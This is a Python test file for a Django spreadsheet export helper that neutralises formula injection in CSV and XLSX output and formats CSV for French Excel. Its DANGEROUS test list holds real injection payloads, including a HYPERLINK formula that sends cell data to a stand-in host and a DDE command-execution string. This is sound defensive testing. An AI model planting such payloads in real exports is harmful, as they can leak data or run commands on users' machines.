"""The one spreadsheet helper: formulas neutralised in CSV and XLSX, a CSV that French Excel opens.

The exports themselves are tested through their admin URLs beside their features
(``test_admin_reports.py``, ``test_polls_admin_results.py``); here, the helper and the mixin alone."""

from __future__ import annotations

import codecs
import csv
import datetime
import io
from dataclasses import dataclass

import pytest
from django.test import RequestFactory
from django.views import View
from openpyxl import load_workbook

from tests.polls_admin import body
from wagtail_social.spreadsheets import SafeSpreadsheetExportMixin, neutralise_cell

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_gets_a_quote(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Canteen", "", "a=b", " =spaced", "'=already", 3, -3, -2.5, None, datetime.date(2026, 11, 30)]
)
def test_other_values_are_left_alone(value):
    assert neutralise_cell(value) == value


@dataclass
class Row:
    text: str
    number: float
    day: datetime.date


class Export(SafeSpreadsheetExportMixin, View):
    list_export = ["text", "number", "day"]
    export_headings = {"text": "Text", "number": "Number", "day": "Day"}


def export(rows, spreadsheet_format):
    view = Export()
    view.setup(RequestFactory().get("/", {"export": spreadsheet_format}))
    return view.as_spreadsheet(rows, spreadsheet_format)


ROWS = [Row(text, -1.5, datetime.date(2026, 11, 30)) for text in DANGEROUS] + [
    Row("Café", -7, datetime.date(2026, 12, 1))
]


def test_csv_cells_are_neutralised_with_bom_and_semicolons():
    response = export(ROWS, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = body(response)
    assert data.startswith(codecs.BOM_UTF8)
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == "Text;Number;Day"
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in DANGEROUS] + ["Café"]
    # Numbers are written as numbers: no quote in front of a negative one.
    assert [row[1] for row in rows[1:]] == ["-1.5"] * len(DANGEROUS) + ["-7"]
    assert rows[-1][2] == "2026-12-01"


def test_xlsx_cells_are_neutralised_and_numbers_stay_numbers():
    response = export(ROWS, "xlsx")
    sheet = load_workbook(io.BytesIO(body(response))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Text", "Number", "Day")
    # XML reads a stored carriage return back as a line feed; the quote in front is what counts.
    neutralised = ["'" + text.replace("\r", "\n") for text in DANGEROUS]
    assert [row[0] for row in rows[1:]] == neutralised + ["Café"]
    assert [row[1] for row in rows[1:]] == [-1.5] * len(DANGEROUS) + [-7]
    assert rows[-1][2] == datetime.date(2026, 12, 1)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
